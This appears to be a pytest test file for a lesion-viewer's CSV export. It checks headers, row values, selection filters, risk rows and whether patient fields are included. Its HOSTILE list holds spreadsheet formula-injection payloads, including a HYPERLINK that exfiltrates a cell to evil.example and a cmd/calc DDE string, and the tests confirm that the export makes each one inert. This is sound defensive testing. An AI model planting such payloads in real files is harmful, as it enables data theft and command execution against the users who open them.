"""CSV export: exact header, values, selection, patient fields only on request, formula injection made inert."""
from __future__ import annotations

import csv

import numpy as np
import pytest

from lesionviewer.detection.finding import Finding
from lesionviewer.io import Volume
from lesionviewer.review import Measurement, ReviewSession, csv_columns, export_csv
from lesionviewer.util.csv_safety import neutralize_cell

EXPECTED_HEADER = (
    "row_type,id,study_instance_uid,series_instance_uid,series_description,slice_index,z_mm,"
    "box_x1_px,box_y1_px,box_x2_px,box_y2_px,box_x1_mm,box_y1_mm,box_x2_mm,box_y2_mm,"
    "center_x_mm,center_y_mm,center_z_mm,long_axis_mm,short_axis_mm,score,status,note,model_name,model_version,"
    "long_axis_x1_px,long_axis_y1_px,long_axis_x2_px,long_axis_y2_px,"
    "short_axis_x1_px,short_axis_y1_px,short_axis_x2_px,short_axis_y2_px,slice_number"
)

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "\uff1dcmd|' /C calc'!A0"]


def make_volume(description="CT CHEST", **meta):
    return Volume(
        np.zeros((30, 64, 64), np.int16), spacing=(1.25, 0.75, 0.75), origin=(-24.0, -30.0, -200.0),
        meta={"SeriesInstanceUID": "1.2.840.113619.2.1", "StudyInstanceUID": "1.2.840.113619.1",
              "SeriesDescription": description, "PatientName": "Doe^Jane", "PatientID": "PID-0042", **meta},
    )


def read(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def session_and_volume():
    vol = make_volume()
    s = ReviewSession.open(vol)
    s.begin_run("mp3d63", "1.0.3")
    ids = s.add_findings(
        [Finding.from_pixel_box(vol, 12, (10, 20, 30, 28), 0.87654, "mp3d63"),
         Finding.from_pixel_box(vol, 5, (40, 40, 50, 50), 0.3, "mp3d63"),
         Finding.from_pixel_box(vol, 20, (0, 0, 8, 8), 0.6, "mp3d63")],
        slices=range(30),
    )
    return s, vol, ids


def test_exact_header_bom_and_crlf(session_and_volume, tmp_path):
    s, vol, _ = session_and_volume
    out = tmp_path / "x.csv"
    export_csv(s, out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + EXPECTED_HEADER.encode() + b"\r\n")
    assert ",".join(csv_columns()) == EXPECTED_HEADER


def test_a_finding_rows_values(session_and_volume, tmp_path):
    s, vol, ids = session_and_volume
    f12 = next(i for i in ids if s.finding(i).slice_index == 12)
    s.set_status(f12, "accepted")
    s.set_note(f12, "Läsion, 2 cm; \"cyst?\"\nfollow-up")
    out = tmp_path / "x.csv"
    assert export_csv(s, out) == 2  # default: visible = score >= 0.5 (0.877 and 0.6)
    header, *rows = read(out)
    row = dict(zip(header, rows[0]))
    assert row == {
        "row_type": "finding", "id": f12, "study_instance_uid": "1.2.840.113619.1",
        "series_instance_uid": "1.2.840.113619.2.1", "series_description": "CT CHEST",
        "slice_index": "12", "z_mm": "-185.0",
        "box_x1_px": "10.0", "box_y1_px": "20.0", "box_x2_px": "30.0", "box_y2_px": "28.0",
        "box_x1_mm": "-16.88", "box_y1_mm": "-15.38", "box_x2_mm": "-1.88", "box_y2_mm": "-9.38",
        "center_x_mm": "-9.38", "center_y_mm": "-12.38", "center_z_mm": "-185.0",
        "long_axis_mm": "15.0", "short_axis_mm": "6.0", "score": "0.8765", "status": "accepted",
        "note": "Läsion, 2 cm; \"cyst?\"\nfollow-up", "model_name": "mp3d63", "model_version": "1.0.3",
        **{name: "" for name in header[25:-1]}, "slice_number": "13",
    }
    assert [r[5] for r in rows] == ["12", "20"]  # ordered by slice


def test_selection_all_visible_accepted(session_and_volume, tmp_path):
    s, vol, ids = session_and_volume
    low = next(i for i in ids if s.finding(i).score == 0.3)
    high = next(i for i in ids if s.finding(i).slice_index == 20)
    s.set_status(high, "rejected")
    counts = {sel: export_csv(s, tmp_path / f"{sel}.csv", selection=sel, include_measurements=False)
              for sel in ("all", "visible", "accepted")}
    assert counts == {"all": 3, "visible": 2, "accepted": 0}  # the rejected one above 0.5 stays on record
    s.set_status(low, "accepted")
    assert export_csv(s, tmp_path / "v.csv") == 3  # accepted below the threshold is exported too
    above = [i for i in ids if i != low and s.finding(i).score > .5]
    assert [r[1] for r in read(tmp_path / "v.csv")[1:]] == [low, *above]
    with pytest.raises(ValueError, match="selection"):
        export_csv(s, tmp_path / "bad.csv", selection="some")


def test_measurement_rows(session_and_volume, tmp_path):
    s, vol, _ = session_and_volume
    s.add_measurement(Measurement.ruler(vol, 7, (10, 10), (13, 14), note="-ruler"))
    s.add_measurement(Measurement.recist(vol, 9, ((0, 0), (20, 0)), ((10, -4), (10, 4))))
    out = tmp_path / "m.csv"
    export_csv(s, out, selection="accepted")
    header, *rows = read(out)
    ruler, recist = (dict(zip(header, r)) for r in rows)
    assert (ruler["row_type"], ruler["id"], ruler["slice_index"], ruler["long_axis_mm"], ruler["short_axis_mm"]) == (
        "ruler", "M1", "7", "3.75", "")
    assert (ruler["note"], ruler["score"], ruler["status"], ruler["box_x1_px"]) == ("'-ruler", "", "", "")
    assert [ruler[f"long_axis_{c}_px"] for c in ("x1", "y1", "x2", "y2")] == ["10.0", "10.0", "13.0", "14.0"]
    assert (recist["row_type"], recist["long_axis_mm"], recist["short_axis_mm"]) == ("recist", "15.0", "6.0")
    assert [recist[f"short_axis_{c}_px"] for c in ("x1", "y1", "x2", "y2")] == ["10.0", "-4.0", "10.0", "4.0"]
    assert recist["center_z_mm"] == recist["z_mm"] == "-188.75"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_is_inert_in_every_text_field(hostile, tmp_path):
    vol = make_volume(description=hostile, PatientName=hostile, PatientID=hostile)
    s = ReviewSession.open(vol)
    s.begin_run(hostile, hostile)
    (fid,) = s.add_findings([Finding.from_pixel_box(vol, 1, (0, 0, 4, 4), 0.9, hostile)])
    s.set_note(fid, hostile)
    mid = s.add_measurement(Measurement.ruler(vol, 1, (0, 0), (3, 4)))
    s.set_note(mid, hostile)
    out = tmp_path / "h.csv"
    export_csv(s, out, include_patient=True, volume=vol)
    header, *rows = read(out)
    cells = {(r[0], name): value for r in rows for name, value in zip(header, r)}
    for key in [("finding", "series_description"), ("finding", "patient_name"), ("finding", "patient_id"),
                ("finding", "note"), ("finding", "model_name"), ("finding", "model_version"), ("ruler", "note")]:
        assert cells[key] == "'" + hostile, key
    # Nothing any cell of the file starts with can trigger a formula.
    for r in rows:
        for value in r:
            assert not value.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), value
            if value.startswith("-"):
                float(value)  # only real negative numbers start with a minus


def test_numbers_are_written_as_numbers_not_neutralised(tmp_path):
    assert neutralize_cell(-3.5) == -3.5 and neutralize_cell(0) == 0
    vol = make_volume()
    s = ReviewSession.open(vol)
    s.add_findings([Finding.from_pixel_box(vol, 0, (0, 0, 4, 4), 0.9, "m")])
    export_csv(s, tmp_path / "n.csv")
    header, row = read(tmp_path / "n.csv")
    assert dict(zip(header, row))["box_x1_mm"] == "-24.38"  # pixel frame: corner 0 is half a pixel before voxel 0


def test_patient_fields_only_when_asked(session_and_volume, tmp_path):
    s, vol, _ = session_and_volume
    export_csv(s, tmp_path / "anon.csv", volume=vol)
    text = (tmp_path / "anon.csv").read_text(encoding="utf-8-sig")
    assert "patient" not in text.splitlines()[0] and "Doe" not in text and "PID-0042" not in text
    export_csv(s, tmp_path / "named.csv", include_patient=True, volume=vol)
    header, *rows = read(tmp_path / "named.csv")
    assert header == csv_columns(include_patient=True) and header[2:4] == ["patient_name", "patient_id"]
    assert {(r[2], r[3]) for r in rows} == {("Doe^Jane", "PID-0042")}
    with pytest.raises(ValueError, match="needs the volume"):
        export_csv(s, tmp_path / "x.csv", include_patient=True)


def test_patient_fields_are_not_in_the_autosave_file(session_and_volume):
    s, vol, _ = session_and_volume
    s.set_status(s.findings()[0].id, "accepted")
    text = s.path.read_text(encoding="utf-8")
    assert "Doe" not in text and "PID-0042" not in text


def test_export_clears_dirty_and_is_atomic(session_and_volume, tmp_path, monkeypatch):
    s, vol, ids = session_and_volume
    s.set_status(ids[0], "accepted")
    out = tmp_path / "x.csv"
    out.write_text("previous export")
    import lesionviewer.review.csv_export as module

    def broken(value):
        raise RuntimeError("disk pulled")

    with monkeypatch.context() as patch:
        patch.setattr(module, "neutralize_cell", broken)
        with pytest.raises(RuntimeError):
            export_csv(s, out)
    assert out.read_text() == "previous export" and s.dirty_since_export
    assert not list(tmp_path.glob("*.tmp"))
    export_csv(s, out)
    assert not s.dirty_since_export and not ReviewSession.open(vol).dirty_since_export
    assert s.last_export["path"] == str(out)


def test_empty_session_exports_a_header_only(tmp_path):
    out = tmp_path / "e.csv"
    assert export_csv(ReviewSession("1.2"), out) == 0
    assert read(out) == [csv_columns()]


# ---------------------------------------------------------------- the study-level risk row (issue 8)

RISK = {"probability": 0.123456, "logit": -1.96, "model_name": "demo-risk-i3d", "lung_found": False,
        "note": "no lung found: the crop is centred on the volume"}


def test_risk_is_the_first_row_and_leaves_the_header_and_finding_rows_unchanged(session_and_volume, tmp_path):
    s, vol, ids = session_and_volume
    export_csv(s, tmp_path / "before.csv")
    s.set_risk(RISK, model_version="0.3")
    out = tmp_path / "after.csv"
    assert export_csv(s, out) == 3  # the risk row + the two visible findings
    assert out.read_bytes().startswith(b"\xef\xbb\xbf" + EXPECTED_HEADER.encode() + b"\r\n")
    header, risk, *findings = read(out)
    assert findings == read(tmp_path / "before.csv")[1:]  # finding rows byte for byte as before
    row = dict(zip(header, risk))
    filled = {k: v for k, v in row.items() if v != ""}
    assert filled == {"row_type": "risk", "study_instance_uid": "1.2.840.113619.1",
                      "series_instance_uid": "1.2.840.113619.2.1", "series_description": "CT CHEST",
                      "score": "0.1235", "note": RISK["note"], "model_name": "demo-risk-i3d", "model_version": "0.3"}


def test_risk_row_without_findings_with_patient_and_left_out_on_request(tmp_path):
    vol = make_volume()
    s = ReviewSession.open(vol)
    s.set_risk({"probability": 0.9, "model_name": "m"})
    out = tmp_path / "r.csv"
    assert export_csv(s, out, include_patient=True, volume=vol) == 1
    header, row = read(out)
    row = dict(zip(header, row))
    assert (row["row_type"], row["score"], row["patient_id"], row["note"]) == ("risk", "0.9", "PID-0042", "")
    assert export_csv(s, out, include_risk=False) == 0 and len(read(out)) == 1


def test_risk_survives_reopening_the_review_and_is_exported_from_it(tmp_path):
    vol = make_volume()
    s = ReviewSession.open(vol, folder=tmp_path)
    assert not s.dirty_since_export
    s.set_risk(RISK, model_version="0.3")
    assert not s.dirty_since_export  # the model's output is not the radiologist's work
    again = ReviewSession.open(vol, folder=tmp_path)
    assert again.risk == {**RISK, "model_version": "0.3", "enough_lung": False}  # no lung: not enough
    export_csv(again, tmp_path / "x.csv")
    assert read(tmp_path / "x.csv")[1][0] == "risk"
    again.set_risk(None)
    assert ReviewSession.open(vol, folder=tmp_path).risk is None


@pytest.mark.parametrize("bad", [{"probability": float("nan"), "model_name": "m"},
                                 {"probability": -0.1, "model_name": "m"}, {"model_name": "m"}])
def test_an_unusable_risk_result_is_refused_and_the_session_keeps_the_old_one(bad):
    s = ReviewSession("1.2")
    s.set_risk({"probability": 0.4, "model_name": "m"})
    with pytest.raises(ValueError, match="probability"):
        s.set_risk(bad)
    assert s.risk["probability"] == 0.4


def test_hostile_risk_note_and_model_name_are_inert(tmp_path):
    s = ReviewSession("1.2")
    s.set_risk({"probability": 0.5, "model_name": HOSTILE[0], "note": HOSTILE[3]})
    export_csv(s, tmp_path / "h.csv")
    header, row = read(tmp_path / "h.csv")
    row = dict(zip(header, row))
    assert (row["model_name"], row["note"]) == ("'" + HOSTILE[0], "'" + HOSTILE[3])


# ---------------------------------------------------------------- issue 14: slice numbers, unknown millimetres


def test_slice_number_counts_from_one_like_the_viewer_and_unknown_mm_are_empty(tmp_path):
    from lesionviewer.detection.finding import Finding

    nan = float("nan")
    s = ReviewSession("1.2.3", num_slices=5)
    s.add_findings([Finding(0, (1, 1, 4, 4), 0.9, "m", box_mm=(nan,) * 4, width_mm=nan)])
    s.add_measurement(Measurement("ruler", 4, ((0, 0), (3, 4)), (5.0,), z_mm=nan, center_mm=(nan, nan, nan)))
    out = tmp_path / "x.csv"
    export_csv(s, out)
    header, finding, ruler = read(out)
    finding, ruler = dict(zip(header, finding)), dict(zip(header, ruler))
    assert (finding["slice_index"], finding["slice_number"]) == ("0", "1")
    assert (ruler["slice_index"], ruler["slice_number"]) == ("4", "5")
    assert finding["box_x1_mm"] == "" and ruler["z_mm"] == "" and ruler["long_axis_mm"] == "5.0"
    assert "nan" not in out.read_text(encoding="utf-8-sig").lower()
